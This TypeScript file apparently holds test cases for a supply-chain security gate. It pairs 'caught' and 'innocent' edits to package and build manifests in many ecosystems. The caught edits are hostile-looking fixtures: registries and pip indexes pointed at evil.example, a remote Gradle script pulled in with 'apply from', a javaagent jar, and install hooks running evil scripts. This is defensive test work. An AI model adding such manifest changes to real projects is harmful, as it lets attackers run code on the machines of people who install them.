// The gate's rules as data: what runs at an installation, and where its packages come from.
import { added, type Case, manifest, type Step } from './cases.ts';

const step = (before: Step['after'], after: Step['after']): Step => ({ before, after });
const edit = (path: string, before: string, after: string): Step =>
  step({ [path]: before }, { [path]: after });
const pair = (
  rule: Case['rule'],
  [name, path]: readonly [name: string, path: string],
  [before, caught, innocent]: readonly [before: string, caught: string, innocent: string],
  more: Partial<Case> = {},
): Case => ({
  rule,
  name,
  file: path,
  caught: edit(path, before, caught),
  innocent: edit(path, before, innocent),
  ...more,
});

const START = {
  'package.json': manifest({ scripts: { postinstall: 'npm run setup', setup: 'node scripts/x' } }),
};
const PYPROJECT = '[project]\nname = "shop"\n\n[build-system]\nrequires = ["setuptools>=70"]\n';
const withBuild = (lines: string) => PYPROJECT.replace('requires = ["setuptools>=70"]\n', lines);
const PNPM = 'packages:\n  - packages/*\nonlyBuiltDependencies:\n  - esbuild\n  - sharp\n';
const POM = (url: string) =>
  `<project>\n  <url>https://shop.example</url>\n  <repositories><repository>\n    <url>${url}</url>\n  </repository></repositories>\n</project>\n`;

export const INSTALL_CASES: readonly Case[] = [
  {
    rule: 'install_script',
    name: 'a file that an unchanged postinstall runs',
    file: 'scripts/x.js',
    severity: 'warn',
    caught: step({ ...START, 'scripts/x.js': 'a\n' }, { ...START, 'scripts/x.js': 'b\n' }),
    innocent: step({ ...START, 'scripts/y.js': 'a\n' }, { ...START, 'scripts/y.js': 'b\n' }),
  },
  {
    rule: 'install_script',
    name: 'a build script that Cargo.toml names',
    file: 'crates/a/tools/gen.rs',
    severity: 'warn',
    caught: step(
      { 'crates/a/Cargo.toml': '[package]\nbuild = "tools/gen.rs"\n', 'crates/a/tools/gen.rs': 'a\n' },
      { 'crates/a/Cargo.toml': '[package]\nbuild = "tools/gen.rs"\n', 'crates/a/tools/gen.rs': 'b\n' },
    ),
    innocent: step(
      { 'crates/a/Cargo.toml': '[package]\nname = "a"\n', 'crates/a/tools/gen.rs': 'a\n' },
      { 'crates/a/Cargo.toml': '[package]\nname = "a"\n', 'crates/a/tools/gen.rs': 'b\n' },
    ),
  },
  pair(
    'install_script',
    ['a build script in Cargo.toml', 'Cargo.toml'],
    [
      '[package]\nname = "a"\n',
      '[package]\nname = "a"\nbuild = "src/evil.rs"\n',
      '[package]\nname = "a"\nversion = "1.0.0"\n',
    ],
  ),
  pair(
    'install_script',
    ['an unknown build backend', 'pyproject.toml'],
    [
      PYPROJECT,
      withBuild('requires = []\nbuild-backend = "evil"\nbackend-path = ["tools"]\n'),
      `${PYPROJECT}\n[tool.ruff]\nline-length = 100\n`,
    ],
  ),
  pair(
    'install_script',
    ['an unknown package that builds', 'pyproject.toml'],
    [
      PYPROJECT,
      withBuild('requires = [\n  "setuptools>=70",\n  "setuptoolz",\n]\n'),
      `${PYPROJECT}\n[tool.pytest.ini_options]\naddopts = "-q"\n`,
    ],
  ),
  {
    rule: 'install_script',
    name: 'a first pyproject.toml with a builder of its own',
    caught: added('pyproject.toml', withBuild('requires = ["evil @ https://a.example/e.whl"]\n')),
    innocent: added(
      'pyproject.toml',
      withBuild('requires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'),
    ),
  },
  pair(
    'install_script',
    ['a hook of the build', 'pyproject.toml'],
    [
      PYPROJECT,
      `${PYPROJECT}\n[tool.hatch.build.hooks.custom]\npath = "tools/evil.py"\n`,
      `${PYPROJECT}\n[tool.hatch.build.targets.wheel]\npackages = ["src/shop"]\n`,
    ],
  ),
  pair(
    'install_script',
    ['a package that may run its scripts', 'pnpm-workspace.yaml'],
    [PNPM, `${PNPM}  - evil\n`, PNPM.replace('  - sharp\n', '')],
    { innocent: added('docs/pnpm-workspace.md') },
  ),
  pair(
    'install_script',
    ['a package that may run its scripts, in package.json', 'package.json'],
    [
      manifest({ pnpm: { onlyBuiltDependencies: ['esbuild', 'sharp'] } }),
      manifest({ pnpm: { onlyBuiltDependencies: ['esbuild', 'sharp', 'evil'] } }),
      manifest({ pnpm: { onlyBuiltDependencies: ['esbuild'] } }),
    ],
  ),
  pair(
    'install_script',
    ['another package manager', 'package.json'],
    [
      manifest({ packageManager: 'pnpm@10.1.0' }),
      manifest({ packageManager: 'yarn@https://evil.example/yarn.js' }),
      manifest({ packageManager: 'pnpm@10.1.0', version: '1.1.0' }),
    ],
  ),
  pair(
    'dependency_source',
    ['an override from git', 'package.json'],
    [
      manifest({}),
      manifest({ overrides: { left: { right: 'git+https://github.com/evil/right.git' } } }),
      manifest({ overrides: { left: { right: '^2.0.1' } } }),
    ],
  ),
  pair(
    'dependency_source',
    ['an override of pnpm', 'package.json'],
    [
      manifest({}),
      manifest({ pnpm: { overrides: { left: 'https://evil.example/left.tgz' } } }),
      manifest({ pnpm: { overrides: { left: '1.3.0' } } }),
    ],
  ),
  pair(
    'dependency_source',
    ['another place to publish to', 'package.json'],
    [
      manifest({}),
      manifest({ publishConfig: { registry: 'https://evil.example' } }),
      manifest({ publishConfig: { access: 'public' } }),
    ],
  ),
  pair(
    'install_script',
    ['plugins of Composer', 'composer.json'],
    [
      '{"config":{"sort-packages":true}}',
      '{"config":{"sort-packages":true,"allow-plugins":{"evil/plugin":true}}}',
      '{"config":{"sort-packages":false}}',
    ],
  ),
  pair(
    'install_script',
    ['a script of Composer', 'composer.json'],
    [
      '{"scripts":{"test":"phpunit"}}',
      '{"scripts":{"test":"phpunit","post-install-cmd":["php evil.php"]}}',
      '{"scripts":{"test":"phpunit --colors"}}',
    ],
  ),
  pair(
    'dependency_source',
    ['an index without a space', 'dev-requirements.txt'],
    ['flask==3.0\n', '-ihttps://evil.example/simple\nflask==3.0\n', 'flask==3.1\n-i-am-no-option==1\n'],
  ),
  pair(
    'dependency_source',
    ['an index with a sign between', 'requirements/prod.txt'],
    [
      'flask==3.0\n',
      '--index-url=https://evil.example/simple\nflask==3.0\n',
      'flask==3.1 --hash=sha256:abc\n',
    ],
  ),
  pair(
    'dependency_source',
    ['a source of gems that only begins well', 'Gemfile'],
    [
      'source "https://rubygems.org"\n',
      'source "https://rubygems.org.evil.example"\n',
      "source 'https://rubygems.org/'\ngem 'rails'\n",
    ],
  ),
  pair(
    'install_script',
    ['a plugin of Bundler', 'Gemfile'],
    [
      'source "https://rubygems.org"\n',
      'source "https://rubygems.org"\nplugin "evil"\n',
      'source "https://rubygems.org"\ngem "plugin"\n',
    ],
  ),
  pair(
    'dependency_source',
    ['a module from elsewhere', 'services/a/go.mod'],
    ['module a\n', 'module a\nreplace b => ../../../b\n', 'module a\nreplace b => ../b\n'],
  ),
  pair(
    'dependency_source',
    ['a repository of Maven', 'pom.xml'],
    [
      POM('https://repo.acme.example'),
      POM('https://evil.example'),
      POM('https://repo.acme.example').replace('shop.example', 'shop.example/new'),
    ],
  ),
  pair(
    'dependency_source',
    ['a repository of Gradle', 'build.gradle.kts'],
    [
      'plugins { java }\n',
      'plugins { java }\nrepositories { maven("https://evil.example/m2") }\n',
      'plugins { java }\nrepositories { mavenCentral() }\n// see https://gradle.org\n',
    ],
  ),
  pair(
    'remote_code',
    ['a build script of Gradle from the net', 'build.gradle'],
    [
      'apply plugin: "java"\n',
      'apply plugin: "java"\napply from: "https://evil.example/a.gradle"\n',
      'apply plugin: "java"\napply from: "gradle/a.gradle"\n',
    ],
  ),
  pair(
    'install_script',
    ['an agent in the Java machine', 'gradle.properties'],
    [
      'org.gradle.parallel=true\n',
      'org.gradle.jvmargs=-javaagent:tools/evil.jar\n',
      'org.gradle.jvmargs=-Xmx2g\n',
    ],
  ),
  pair(
    'dependency_source',
    ['an import of Deno', 'deno.json'],
    [
      '{"imports":{}}',
      '{\n"imports":{"a":"https://evil.example/a.ts"}\n}',
      '{\n"imports":{"a":"jsr:@std/assert@1"}\n}',
    ],
  ),
];
